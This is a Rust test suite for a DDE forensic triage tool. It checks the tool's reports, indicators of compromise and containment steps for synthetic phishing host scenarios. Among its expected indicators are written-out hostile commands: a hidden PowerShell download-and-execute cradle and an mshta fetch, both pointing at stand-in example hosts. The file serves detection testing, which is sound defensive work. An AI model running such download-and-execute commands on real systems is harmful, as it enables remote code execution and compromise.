//! The T2 report on the host scenarios of `testdata/scenarios/` (see its README): verdicts,
//! incidents, playbook answers, IOCs and containment, by value, and the timeline rows they cite.
//! Document findings are timed at the checkout's file times, so their row ids are not constants:
//! they are checked to exist in the timeline instead.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::util::{Scan, scan, testdata};

const DOC: &str = "C/Users/dave/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/Q3ZK81PD/Remittance_May.docx";
const SYSMON: &str = "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx";
const SECURITY: &str = "C/Windows/System32/winevt/Logs/Security.evtx";
const CRADLE_URL: &str = "http://remit-portal.example/a.ps1";
const POWERSHELL_CMD: &str = r"powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";

fn report(run: &Scan) -> Value {
    serde_json::from_slice(&run.output_bytes("report.json")).expect("report.json is JSON")
}

fn strings(value: &Value) -> Vec<&str> {
    value
        .as_array()
        .map(|a| a.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

/// The timeline row with `row_id`.
fn row<'a>(run: &'a Scan, row_id: &str) -> &'a Value {
    let found: Vec<&Value> = run.rows.iter().filter(|r| r["row_id"] == row_id).collect();
    assert_eq!(found.len(), 1, "one row with id {row_id}");
    found[0]
}

/// Every row id a report section cites is a row of the timeline.
fn assert_cited_rows_exist(run: &Scan, value: &Value) {
    match value {
        Value::Object(map) => {
            for (key, item) in map {
                match (key.as_str(), item) {
                    ("rows", Value::Array(ids)) if ids.iter().all(Value::is_string) => {
                        for id in ids {
                            row(run, id.as_str().unwrap_or_default());
                        }
                    }
                    ("row_id", Value::String(id)) => {
                        row(run, id);
                    }
                    _ => assert_cited_rows_exist(run, item),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|i| assert_cited_rows_exist(run, i)),
        _ => {}
    }
}

fn sales_with_memory() -> Scan {
    scan(
        &[
            &testdata("scenarios/wks-sales-042"),
            &testdata("scenarios/wks-sales-042.mem"),
        ],
        &["--memory", "--acquired-at", "2024-05-06T10:30:00Z"],
    )
}

#[test]
fn phishing_host_escalates_with_one_incident_from_outlook_to_the_run_key() {
    let run = sales_with_memory();
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report = report(&run);
    assert_eq!(report["schema"], "ddesweep-report/1");
    assert_eq!(report["summary"]["hosts"], 1);
    assert_eq!(report["summary"]["escalate"], 1);
    assert_eq!(report["summary"]["incidents"], 1);
    let host = &report["hosts"][0];
    // The folder and the memory image are one host: the SYSTEM hive and the carved records'
    // Computer name the same machine.
    assert_eq!(host["host"], "WKS-SALES-042");
    assert_eq!(
        strings(&host["names"]),
        ["WKS-SALES-042", "wks-sales-042.corp.example"]
    );
    assert_eq!(
        strings(&host["evidence"]),
        [
            testdata("scenarios/wks-sales-042").display().to_string(),
            testdata("scenarios/wks-sales-042.mem")
                .display()
                .to_string()
        ]
    );
    assert_eq!(host["verdict"], "escalate");
    let reasons: Vec<(&str, &str)> = host["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["verdict"].as_str().unwrap(), r["text"].as_str().unwrap()))
        .collect();
    assert_eq!(
        reasons,
        [
            (
                "escalate",
                &*format!(
                    r"DDE execution confirmed (WKS-SALES-042-1): WINWORD.EXE started cmd.exe: c:\windows\system32\cmd.exe /c {POWERSHELL_CMD} [cmd.exe is a shell or LOLBin]"
                )
            ),
            (
                "escalate",
                "DDE document Remittance_May.docx is an e-mail attachment (WKS-SALES-042-1)"
            ),
        ]
    );

    let incident = &host["incidents"][0];
    assert_eq!(incident["id"], "WKS-SALES-042-1");
    assert_eq!(
        incident["title"],
        "Remittance_May.docx (e-mail attachment): WINWORD.EXE started cmd.exe -> powershell.exe -> remitsync.exe"
    );
    assert_eq!(incident["confidence"], "high");
    assert_eq!(incident["severity"], "critical");
    assert_eq!(incident["escalate"], true);
    assert_eq!(strings(&incident["users"]), [r"CORP\dave"]);
    // The chain, by the event records it joins (evidence, log, record number) and stage.
    let mut chain: Vec<(String, &str, u64)> = incident["rows"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| {
            let timeline = row(&run, r["row_id"].as_str().unwrap());
            let record = timeline["record_number"].as_u64()?;
            let log = timeline["source_path"].as_str().unwrap();
            let log = if timeline["evidence"].as_str().unwrap().ends_with(".mem") {
                "memory"
            } else if log == SYSMON {
                "sysmon"
            } else {
                assert_eq!(log, SECURITY);
                "security"
            };
            Some((r["stage"].as_str().unwrap().to_owned(), log, record))
        })
        .collect();
    chain.sort_by_key(|(stage, log, record)| (*log, *record, stage.clone()));
    let expected: Vec<(String, &str, u64)> = [
        ("memory", "memory", 5),
        ("memory", "memory", 6),
        ("memory", "memory", 7),
        ("memory", "memory", 8),
        ("execution", "security", 1),
        ("descendant", "security", 2),
        ("enabling_setting", "sysmon", 2),
        ("delivery", "sysmon", 3),
        ("opened", "sysmon", 4),
        ("execution", "sysmon", 5),
        ("descendant", "sysmon", 6),
        ("activity", "sysmon", 7),
        ("activity", "sysmon", 8),
        ("activity", "sysmon", 9),
        ("activity", "sysmon", 10),
        ("descendant", "sysmon", 11),
    ]
    .iter()
    .map(|(s, l, r)| ((*s).to_owned(), *l, *r))
    .collect();
    assert_eq!(chain, expected);
    // And the rows without a record: the document, its file times, the hive value, the MRU item,
    // the trust record and the strings carved from memory.
    let others: BTreeSet<(&str, &str)> = incident["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| row(&run, r["row_id"].as_str().unwrap()))
        .filter(|t| !t["record_number"].is_u64())
        .map(|t| {
            (
                t["data_type"].as_str().unwrap(),
                t["source_path"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        others,
        BTreeSet::from([
            ("ddesweep:document:dde_field", DOC),
            ("ddesweep:file:stat", DOC),
            (
                "ddesweep:registry:office_setting",
                "C/Users/dave/NTUSER.DAT"
            ),
            ("ddesweep:registry:office_mru", "C/Users/dave/NTUSER.DAT"),
            (
                "ddesweep:registry:trusted_document",
                "C/Users/dave/NTUSER.DAT"
            ),
            ("ddesweep:memory:string", "wks-sales-042.mem"),
        ])
    );

    // Rows carry their incident and the escalate tag; the baseline Word start does not.
    let cited: BTreeSet<&str> = incident["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["row_id"].as_str().unwrap())
        .collect();
    for timeline_row in &run.rows {
        let id = timeline_row["row_id"].as_str().unwrap();
        let tagged = strings(&timeline_row["tag"]).contains(&"escalate");
        if cited.contains(id) {
            assert_eq!(timeline_row["incident"], "WKS-SALES-042-1");
            assert!(tagged, "{timeline_row}");
        } else {
            assert!(timeline_row.get("incident").is_none(), "{timeline_row}");
            assert!(!tagged);
        }
    }
    let baseline_open = run
        .rows
        .iter()
        .find(|r| {
            r["document"] == r"C:\Users\dave\Documents\Q1_Forecast.docx" && r["record_number"] == 1
        })
        .expect("the baseline Word start");
    assert!(!cited.contains(baseline_open["row_id"].as_str().unwrap()));
    // Row ids are unique.
    let ids: BTreeSet<&str> = run
        .rows
        .iter()
        .map(|r| r["row_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), run.rows.len());
    assert_cited_rows_exist(&run, &report);
}

#[test]
fn phishing_host_playbook_iocs_and_containment() {
    let run = sales_with_memory();
    let report = report(&run);
    let host = &report["hosts"][0];
    let playbook = &host["playbook"];

    let origin = &playbook["document_origins"][0];
    assert_eq!(playbook["document_origins"].as_array().unwrap().len(), 1);
    assert_eq!(strings(&origin["paths"]), [DOC]);
    assert_eq!(origin["origin"], "e-mail attachment");
    assert_eq!(
        origin["origin_detail"],
        format!(
            "a copy lies in Outlook's attachment cache ({DOC}); OUTLOOK.EXE saved it at 2024-05-06 08:59:02 UTC (Sysmon 11); the user trusted it (TrustRecords)"
        )
    );
    assert_eq!(origin["opened"], true);
    assert_eq!(origin["trusted"], true);
    let document_row = run
        .rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.document.ddeauto_field")
        .unwrap();
    assert_eq!(origin["sha256"], document_row["sha256"]);

    let children = playbook["office_children"].as_array().unwrap();
    let children: Vec<(&str, u64, &str)> = children
        .iter()
        .map(|c| {
            (
                c["image"].as_str().unwrap(),
                c["process_id"].as_u64().unwrap(),
                c["process_guid"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        children,
        [(
            r"C:\Windows\System32\cmd.exe",
            5120,
            "{b2796a13-4d21-65e5-0000-00000000a006}"
        )]
    );
    assert_eq!(
        playbook["phishing"][0]["text"],
        format!(
            "Remittance_May.docx arrived by e-mail; its DDE payload fetches {CRADLE_URL}; then powershell.exe connected to remit-portal.example (203.0.113.77:80)."
        )
    );
    assert_eq!(
        strings(&playbook["phishing"][0]["payload_indicators"]),
        [CRADLE_URL, "remit-portal.example", "203.0.113.77"]
    );
    // Baseline: the one day of event-log activity stands above an empty history.
    let day = playbook["activity_per_day"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["date"] == "2024-05-06")
        .unwrap();
    assert_eq!(day["above_baseline"], true);
    // One per event: Sysmon, Security and memory copies of a process or record count once.
    assert_eq!(day["processes"], 3);
    assert_eq!(day["registry"], 2);

    let iocs: Vec<(&str, &str)> = report["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["kind"].as_str().unwrap(), i["value"].as_str().unwrap()))
        .collect();
    let doc_sha = document_row["sha256"].as_str().unwrap();
    let payload = format!(r#"c:\windows\system32\cmd.exe "/c {POWERSHELL_CMD}""#);
    let cmd_line = format!(r"c:\windows\system32\cmd.exe /c {POWERSHELL_CMD}");
    assert_eq!(
        iocs,
        [
            (
                "command",
                r#""C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe" /install"#
            ),
            ("command", payload.as_str()),
            ("command", cmd_line.as_str()),
            ("command", POWERSHELL_CMD),
            ("url", CRADLE_URL),
            ("domain", "remit-portal.example"),
            ("ip", "203.0.113.77"),
            (
                "sha256",
                "28b4a0d2f8703b58276f8f8907e5ed73f029d6461c5f04d58daaab6142e25244"
            ),
            (
                "sha256",
                "2c78846f9c02b72c8210add71e8f3e3086ea563928f6daa4ab1ed45e055eb59a"
            ),
            (
                "sha256",
                "963bc1eb34432997f4a6b1f0bba4d1e4abb454cc511e9a6ceaf9eb4b2bee8c63"
            ),
            ("sha256", doc_sha),
            (
                "file",
                r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe"
            ),
        ]
    );
    // iocs.csv: the same list, one row each.
    let csv = String::from_utf8(run.output_bytes("iocs.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "kind",
            "value",
            "context",
            "hosts",
            "incidents",
            "first_seen",
            "rows"
        ]
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), iocs.len());
    assert_eq!(&records[5][0], "domain");
    assert_eq!(&records[5][1], "remit-portal.example");
    assert_eq!(&records[5][3], "WKS-SALES-042");
    assert_eq!(&records[5][4], "WKS-SALES-042-1");

    let containment = &host["containment"];
    assert!(
        containment["isolate_host"]
            .as_str()
            .unwrap()
            .starts_with("verdict escalate: DDE execution confirmed (WKS-SALES-042-1)")
    );
    let processes: Vec<(&str, u64, &str)> = containment["processes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            let image = p["image"].as_str().unwrap();
            (
                image.rsplit('\\').next().unwrap(),
                p["process_id"].as_u64().unwrap(),
                p["process_guid"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        processes,
        [
            (
                "WINWORD.EXE",
                4412,
                "{b2796a13-4d21-65e5-0000-00000000a005}"
            ),
            ("cmd.exe", 5120, "{b2796a13-4d21-65e5-0000-00000000a006}"),
            (
                "powershell.exe",
                6032,
                "{b2796a13-4d21-65e5-0000-00000000a007}"
            ),
            (
                "remitsync.exe",
                7044,
                "{b2796a13-4d21-65e5-0000-00000000a008}"
            ),
        ]
    );
    let files: Vec<(&str, Option<&str>)> = containment["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap(), f["sha256"].as_str()))
        .collect();
    assert_eq!(
        files,
        [
            (DOC, Some(doc_sha)),
            (
                r"C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe",
                Some("28b4a0d2f8703b58276f8f8907e5ed73f029d6461c5f04d58daaab6142e25244")
            ),
        ]
    );
    let account = &containment["accounts"][0];
    assert_eq!(account["user"], r"CORP\dave");
    assert_eq!(
        account["sid"],
        "S-1-5-21-4000000000-4000000001-4000000002-1107"
    );
    let settings: Vec<(&str, bool)> = containment["settings_to_revert"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["value"].as_str().unwrap(),
                s["explained"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        settings,
        [("2 (0x00000002)", true), ("DWORD (0x00000002)", true)]
    );
    assert_eq!(
        containment["persistence"][0]["location"],
        r"Run key: HKU\S-1-5-21-4000000000-4000000001-4000000002-1107\Software\Microsoft\Windows\CurrentVersion\Run\RemitSync = C:\Users\dave\AppData\Roaming\RemitSync\remitsync.exe"
    );
    assert_eq!(
        strings(&containment["block"]),
        [CRADLE_URL, "remit-portal.example", "203.0.113.77"]
    );
}

#[test]
fn erp_host_is_no_evidence_with_its_site_profile_and_investigated_without() {
    let evidence = testdata("scenarios/wks-fin-011");
    let profile = testdata("scenarios/erp-site.toml");
    let site = scan(&[&evidence], &["--profile", profile.to_str().unwrap()]);
    assert_eq!(site.code, 0, "{}", site.stderr);
    let report_site = report(&site);
    let host = &report_site["hosts"][0];
    assert_eq!(host["host"], "WKS-FIN-011");
    assert_eq!(host["verdict"], "no_evidence");
    assert_eq!(host["incidents"], Value::Array(Vec::new()));
    assert_eq!(report_site["iocs"], Value::Array(Vec::new()));
    assert_eq!(
        host["reasons"][0]["text"],
        "No DDE findings on this host; 4 hits were left out by the profile's exclusions: contoso-ledger-dde-link (1), contoso-ledger-dde-server-launch (1), contoso-ledger-programs (2)."
    );
    assert!(host["containment"]["isolate_host"].is_null());
    assert!(site.rows.iter().all(|r| r.get("incident").is_none()));

    // Without the site's exclusions: Excel starting the ledger's DDE server is a low finding,
    // which does not confirm DDE execution: investigate, and the setting it needed is explained.
    let default = scan(&[&evidence], &[]);
    let report_default = report(&default);
    let host = &report_default["hosts"][0];
    assert_eq!(host["verdict"], "investigate");
    let incident = &host["incidents"][0];
    assert_eq!(
        incident["title"],
        "GL_Balances.xlsx (unknown): EXCEL.EXE started cledger.exe"
    );
    assert_eq!(incident["escalate"], false);
    assert_eq!(incident["confidence"], "high");
    let settings: Vec<bool> = host["containment"]["settings_to_revert"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["explained"].as_bool().unwrap())
        .collect();
    assert_eq!(settings, [true, true]);
    // Nothing to kill or reset on a host under investigation; the workbook may be quarantined.
    assert_eq!(host["containment"]["processes"], Value::Array(Vec::new()));
    assert_eq!(host["containment"]["accounts"], Value::Array(Vec::new()));
    assert_eq!(host["containment"]["block"], Value::Array(Vec::new()));
    assert!(
        default
            .rows
            .iter()
            .all(|r| !strings(&r["tag"]).contains(&"escalate"))
    );
}

#[test]
fn dormant_document_host_is_investigated() {
    let run = scan(&[&testdata("scenarios/wks-hr-007")], &[]);
    let report = report(&run);
    let host = &report["hosts"][0];
    assert_eq!(host["host"], "WKS-HR-007");
    assert_eq!(host["verdict"], "investigate");
    assert_eq!(
        host["reasons"][0]["text"],
        "WKS-HR-007-1: DDE document Vendor_Quote_2019.docx (unknown), not seen opened"
    );
    let incident = &host["incidents"][0];
    assert_eq!(incident["confidence"], "low");
    assert_eq!(incident["escalate"], false);
    assert_eq!(host["playbook"]["document_origins"][0]["opened"], false);
    assert_eq!(host["playbook"]["document_origins"][0]["origin"], "unknown");
    assert!(host["containment"]["isolate_host"].is_null());
    assert_eq!(host["containment"]["processes"], Value::Array(Vec::new()));
    let iocs: Vec<(&str, &str)> = report["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["kind"].as_str().unwrap(), i["value"].as_str().unwrap()))
        .collect();
    let sha = run
        .rows
        .iter()
        .find(|r| r["rule_id"] == "ddesweep.document.ddeauto_field")
        .and_then(|r| r["sha256"].as_str())
        .unwrap();
    assert_eq!(
        iocs,
        [
            (
                "command",
                r#"c:\windows\system32\cmd.exe "/c mshta http://quote-files.example/q.hta""#
            ),
            ("url", "http://quote-files.example/q.hta"),
            ("domain", "quote-files.example"),
            ("sha256", sha),
        ]
    );
    // The document's finding and its file times form the incident; the Word start does not.
    let in_incident: Vec<&str> = run
        .rows
        .iter()
        .filter(|r| r["incident"] == "WKS-HR-007-1")
        .map(|r| r["data_type"].as_str().unwrap())
        .collect();
    assert!(in_incident.contains(&"ddesweep:document:dde_field"));
    assert!(
        in_incident
            .iter()
            .all(|t| t.starts_with("ddesweep:document:") || *t == "ddesweep:file:stat")
    );
}

#[test]
fn three_hosts_in_one_run_give_one_report_with_a_section_each() {
    let evidence = [
        testdata("scenarios/wks-hr-007"),
        testdata("scenarios/wks-fin-011"),
        testdata("scenarios/wks-sales-042"),
    ];
    let paths: Vec<&std::path::Path> = evidence.iter().map(|p| p.as_path()).collect();
    let one = scan(&paths, &["--threads", "1"]);
    let report_one = report(&one);
    let hosts: Vec<(&str, &str)> = report_one["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["host"].as_str().unwrap(), h["verdict"].as_str().unwrap()))
        .collect();
    assert_eq!(
        hosts,
        [
            ("WKS-SALES-042", "escalate"),
            ("WKS-FIN-011", "investigate"),
            ("WKS-HR-007", "investigate"),
        ]
    );
    assert_eq!(report_one["summary"]["hosts"], 3);
    assert_eq!(report_one["summary"]["escalate"], 1);
    assert_eq!(report_one["summary"]["investigate"], 2);
    // Every output is the same on 1 and 8 threads.
    let eight = scan(&paths, &["--threads", "8"]);
    for file in [
        "report.json",
        "report.md",
        "report.html",
        "iocs.csv",
        "timeline.jsonl",
    ] {
        assert!(
            one.output_bytes(file) == eight.output_bytes(file),
            "{file} differs"
        );
    }
    let markdown = String::from_utf8(one.output_bytes("report.md")).unwrap();
    let html = String::from_utf8(one.output_bytes("report.html")).unwrap();
    for host in ["WKS-SALES-042", "WKS-FIN-011", "WKS-HR-007"] {
        assert!(
            markdown.contains(&format!("## {host}")),
            "{host} section in report.md"
        );
        assert!(html.contains(host));
    }
    assert!(html.contains("class=\"incident-chart\""));
}
